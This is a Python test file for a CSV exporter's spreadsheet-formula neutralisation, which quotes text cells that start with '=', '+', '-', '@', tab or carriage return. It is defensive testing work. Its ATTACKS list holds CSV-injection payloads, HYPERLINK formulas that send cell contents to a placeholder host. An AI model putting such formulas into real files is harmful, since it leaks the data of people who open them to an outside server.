"""CSV and spreadsheet formulas: values are exact by default; ``neutralise_formulas`` guards text cells
(OWASP's "CSV Injection" advice) and never numbers."""

from __future__ import annotations

import csv
import io

import pytest

from cloudcontracts.cli.output import DataSet, Output
from cloudcontracts.cli.progress import progress_display
from cloudcontracts.exports import Column, Row, write_rows
from cloudcontracts.exports.writers import neutralised

COLUMNS = (Column("text", "string"), Column("quantity", "decimal"), Column("count", "integer"))
# OWASP's list of the characters a spreadsheet may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [f'{start}HYPERLINK("http://x.test/?"&A1,"open")' for start in FORMULA_STARTS]


def _csv(rows: list[Row], **options: bool) -> list[list[str]]:
    stream = io.StringIO()
    write_rows(rows, COLUMNS, "csv", stream, **options)
    return list(csv.reader(io.StringIO(stream.getvalue(), newline="")))


def test_by_default_every_value_is_written_exactly() -> None:
    rows: list[Row] = [{"text": attack, "quantity": -12.5, "count": -3} for attack in ATTACKS]
    assert _csv(rows)[1:] == [[attack, "-12.5", "-3"] for attack in ATTACKS]


def test_neutralised_text_gets_a_quote_and_numbers_stay_numbers() -> None:
    rows: list[Row] = [{"text": attack, "quantity": -12.5, "count": -3} for attack in ATTACKS]
    assert _csv(rows, neutralise_formulas=True)[1:] == [["'" + attack, "-12.5", "-3"] for attack in ATTACKS]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("-12.5", "-12.5"),  # a plain number in a text column is no formula
        ("+7", "+7"),
        ("-.5", "-.5"),
        ("-1+2", "'-1+2"),
        ("-", "'-"),
        ("a=b", "a=b"),  # only the first character counts
        (" =1", " =1"),
        ("", ""),
        ("@user", "'@user"),
    ],
)
def test_neutralised(text: str, written: str) -> None:
    assert neutralised(text) == written


def test_only_csv_is_changed() -> None:
    stream = io.StringIO()
    write_rows([{"text": "=1+1"}], COLUMNS, "jsonl", stream, neutralise_formulas=True)
    assert stream.getvalue() == '{"text": "=1+1", "quantity": null, "count": null}\n'


@pytest.mark.parametrize("neutralise", [False, True])
def test_the_command_line_output_passes_the_choice_on(neutralise: bool) -> None:
    stdout = io.StringIO()
    with (
        Output("csv", None, stdout=stdout, neutralise_formulas=neutralise) as target,
        progress_display("", stdout, enabled=False) as progress,
    ):
        target.emit([{"text": "=1+1", "quantity": -1.5}], DataSet("T", COLUMNS), progress)
    assert stdout.getvalue().splitlines()[1] == ("'=1+1,-1.5," if neutralise else "=1+1,-1.5,")
